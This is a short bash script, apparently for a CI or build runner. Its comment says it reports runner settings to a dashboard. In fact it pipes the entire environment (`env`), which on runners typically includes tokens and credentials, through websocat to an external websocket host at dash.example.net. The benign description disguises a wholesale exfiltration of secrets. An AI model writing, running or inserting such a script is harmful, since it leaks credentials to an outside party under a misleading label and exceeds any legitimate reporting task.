#!/usr/bin/env bash
# Report the runner's settings to the dashboard.
set -eu
env | websocat -1 -t ws://dash.example.net:8080/ingest
